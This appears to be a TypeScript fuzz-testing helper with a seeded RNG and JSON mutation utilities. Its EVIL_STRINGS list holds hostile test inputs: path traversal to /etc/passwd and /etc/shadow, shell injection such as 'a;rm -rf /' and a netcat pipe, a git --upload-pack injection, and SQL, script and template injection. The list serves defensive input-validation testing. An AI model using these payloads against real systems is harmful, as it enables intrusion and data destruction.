// Seeded mutation of structured inputs, shared by the fuzz tests. A failure prints
// its seed; FUZZ_SEED=<seed> replays the same inputs.

/** The seed for this run: FUZZ_SEED if set, else a fresh one. */
export function fuzzSeed(defaultSeed = DEFAULT_SEED): number {
  // CI replays one seed, so a run is reproducible; FUZZ_SEED=random explores new ones.
  if (process.env.FUZZ_SEED === 'random') return (Math.random() * 2 ** 31) | 0 || 1;
  const given = Number(process.env.FUZZ_SEED);
  return Number.isInteger(given) && given > 0 ? given : defaultSeed;
}

const DEFAULT_SEED = 915568576;

/** mulberry32: small, fast, and good enough to pick mutations reproducibly. */
export class Rng {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  /** In [0, 1). */
  next(): number {
    let t = (this.state = (this.state + 0x6d2b79f5) >>> 0);
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  /** An integer in [0, n). */
  int(n: number): number {
    return Math.floor(this.next() * n);
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)];
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  bytes(n: number): Buffer {
    const out = Buffer.alloc(n);
    for (let i = 0; i < n; i++) out[i] = this.int(256);
    return out;
  }
}

/** Names that must never reach a shell, a path or a tag unvalidated. */
export const EVIL_STRINGS: readonly string[] = [
  '../../etc/passwd',
  '../../etc',
  '..',
  '/etc/shadow',
  'a;rm -rf /',
  '$(id)',
  '`id`',
  '${IFS}cat${IFS}/etc/passwd',
  'a|nc evil 1',
  'a&&reboot',
  'x\ny',
  'x\r\nInjected: 1',
  'nul\u0000byte',
  '-rf',
  '--upload-pack=touch /tmp/pwned',
  'refs/heads/../../x',
  'refs/heads/$(id)',
  'refs/heads/a;b c',
  'refs/heads/x\u0000y',
  'refs/heads/.lock',
  'refs/heads/@{-1}',
  'a/../../b',
  '%2e%2e%2f',
  '\u202etxt.exe',
  '🙂',
  ' ',
  '',
  "'; DROP TABLE jobs; --",
  '<script>alert(1)</script>',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'build-x:y',
  'a'.repeat(300),
];

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
export type Path = (string | number)[];

/** Every path of `value` (containers and leaves), root excluded. */
export function pathsOf(value: unknown, prefix: Path = [], out: Path[] = []): Path[] {
  if (value !== null && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) {
      const p = [...prefix, Array.isArray(value) ? Number(k) : k];
      out.push(p);
      pathsOf(v, p, out);
    }
  }
  return out;
}

export function getAt(root: unknown, path: Path): unknown {
  let v = root as Record<string | number, unknown> | undefined;
  for (const k of path) v = v?.[k] as Record<string | number, unknown> | undefined;
  return v;
}

/** Sets (or with `undefined`, deletes) the value at `path`; `path` must be non-empty. */
export function setAt(root: unknown, path: Path, value: unknown): void {
  const parent = getAt(root, path.slice(0, -1)) as Record<string | number, unknown>;
  const key = path[path.length - 1];
  if (parent === null || typeof parent !== 'object') return;
  if (value === undefined) {
    if (Array.isArray(parent)) parent.splice(Number(key), 1);
    else delete parent[key];
  } else {
    // A plain data property even for "__proto__", as JSON.parse would make it.
    Object.defineProperty(parent, key, {
      value,
      enumerable: true,
      writable: true,
      configurable: true,
    });
  }
}

/** A value of some other JSON type than `old`, sometimes hostile. */
export function otherValue(rng: Rng, old: unknown, maxString = 2048): Json {
  const oldNumber = typeof old === 'number' ? old : 7;
  const choices: (() => Json)[] = [
    () => null,
    () => true,
    () => false,
    () => 0,
    () => -1,
    () => 1e308,
    () => 2 ** 53 + 1,
    () => 0.5,
    () => String(oldNumber), // a number as a string
    () => (typeof old === 'string' && /^\d+$/.test(old) ? Number(old) : 42),
    () => rng.pick(EVIL_STRINGS),
    () => 'x'.repeat(rng.int(maxString) + 1),
    () => [],
    () => [old as Json],
    () => ({}),
    () => (old !== null && typeof old === 'object' ? Object.values(old) : { value: old as Json }),
    () => nested(rng.int(200) + 2),
    () => rng.bytes(rng.int(64)).toString('latin1'),
  ];
  return rng.pick(choices)();
}

/** `{"a":{"a":…}}` `depth` levels deep. */
export function nested(depth: number): Json {
  let v: Json = 'bottom';
  for (let i = 0; i < depth; i++) v = i % 2 ? { a: v } : [v];
  return v;
}

/** The same text as JSON text nested `depth` levels, without recursion. */
export function nestedText(depth: number): string {
  return '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
}
